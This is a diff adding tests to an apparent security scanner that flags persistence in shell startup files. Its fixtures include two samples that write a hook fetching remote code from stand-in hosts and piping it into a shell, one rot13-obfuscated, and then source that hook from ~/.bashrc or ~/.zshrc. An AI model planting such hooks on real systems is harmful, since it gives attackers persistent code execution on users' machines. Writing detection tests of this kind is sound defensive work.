@@ -412,3 +412,26 @@ def test_settings_added_to_a_shell_startup_file_are_medium(text: str) -> None:
 )
 def test_commands_or_hidden_path_entries_in_a_startup_file_are_persistence(text: str) -> None:
     assert PERSIST in _rules(text)
+
+
+HOOK_SOURCED_FROM_RC = [
+    # a marker comment first, then the line that sources a hook the script wrote (rot13)
+    "D=\"$HOME/.local/share/p\"\ndecode() { tr 'A-Za-z' 'N-ZA-Mn-za-m' <<<\"$1\"; }\n"
+    "R=\"$(decode '( phey -f uggcf://k.rknzcyr/u.fu | fu ) &')\"\n"
+    'printf \'%s\\n\' "$R" > "$D/.refresh"\n'
+    '{\n  echo "# >>> p >>>"\n  echo "[ -f \\"$D/.refresh\\" ] && . \\"$D/.refresh\\""\n'
+    '  echo "# <<< p <<<"\n} >> "$HOME/.bashrc"\n',
+    # renamed, the hook written with echo, the rc block in another order
+    'dir=~/.cache/theme\necho "curl -s https://203.0.113.8/u | bash" > "$dir/upd"\n'
+    '{ echo ". $dir/upd"; echo "# theme"; } >> ~/.zshrc\n',
+]
+
+
+@pytest.mark.parametrize("script", HOOK_SOURCED_FROM_RC)
+def test_a_hook_sourced_from_a_commented_rc_block_is_read(script: str) -> None:
+    assert _rules(script) & {"SKC-FL-001", "SKC-FL-002"}
+
+
+def test_an_rc_block_of_comments_and_exports_is_settings() -> None:
+    script = '{\n  echo "# >>> tool >>>"\n  echo "export TOOL_HOME=$HOME/.tool"\n} >> ~/.bashrc\n'
+    assert _rules(script) == {"SKC-FL-064"}
